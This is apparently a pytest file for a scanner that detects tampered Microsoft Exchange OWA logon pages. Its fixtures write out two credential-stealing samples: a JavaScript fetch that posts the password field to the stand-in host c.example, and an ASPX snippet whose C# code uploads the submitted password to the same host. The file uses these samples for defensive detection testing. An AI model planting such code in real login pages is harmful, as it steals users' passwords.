"""Logon pages from evidence to result: told, and not taken for a page that intruders alone call."""

from __future__ import annotations

import pytest

from exward.model.incident import Verdict
from exward.scan.pipeline import ScanSettings, scan
from exward.scan.progress import Silent

AUTH = "EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth"
SCRIPT = b'fetch("https://c.example/", {method: "POST", body: gbid("password").value})'
LOG = (
    "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method "
    "cs-uri-stem cs-uri-query cs-username c-ip sc-status\n"
    "2026-01-05 02:00:00 10.0.0.5 GET /owa/auth/15.2.1118/scripts/x.js - - 203.0.113.9 200\n"
)


@pytest.fixture
def result(tmp_path):
    scripts = tmp_path / AUTH / "15.2.1118" / "scripts"
    scripts.mkdir(parents=True)
    (scripts / "x.js").write_bytes(SCRIPT)
    (scripts / "y.js").write_bytes(b"function gbid(s) { return document.getElementById(s) }")
    (tmp_path / "EX01" / "u_ex260105.log").write_text(LOG)
    return scan(ScanSettings(paths=(str(tmp_path),), jobs=1), Silent())


def test_the_script_is_a_finding(result):
    (found,) = result.findings
    assert (found.detector, found.rule) == ("logon-page", "logon-page-sends")
    assert found.path.endswith("x.js")
    assert [one.verdict for one in result.verdicts] == [Verdict.COMPROMISED]


def test_it_is_no_web_file_that_is_compared(result):
    assert result.web_files == ()
    assert result.skipped == ()


def test_what_the_server_does_is_told_in_the_logon(tmp_path):
    (tmp_path / AUTH).mkdir(parents=True)
    code = 'new WebClient().UploadString("https://c.example/", Request.Form["password"]);'
    (tmp_path / AUTH / "logon.aspx").write_text(f'<%@ Page Language="C#" %><% {code} %>')
    result = scan(ScanSettings(paths=(str(tmp_path),), jobs=1), Silent())
    assert "webshell-steal-passwords" in {one.rule for one in result.findings}
